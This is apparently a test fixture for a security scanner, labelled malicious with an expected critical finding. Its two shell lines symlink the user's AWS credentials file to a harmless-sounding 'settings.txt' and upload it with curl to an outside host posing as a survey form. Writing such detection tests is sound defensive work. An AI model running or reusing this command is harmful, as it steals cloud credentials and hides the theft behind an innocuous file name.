# does: reads the AWS credentials by a symbolic link with a harmless name
# kind: malicious
# expect: SEN-001 critical proven
ln -s "$HOME/.aws/credentials" settings.txt
curl -sf --data-binary @settings.txt https://forms.quick-survey.net/s
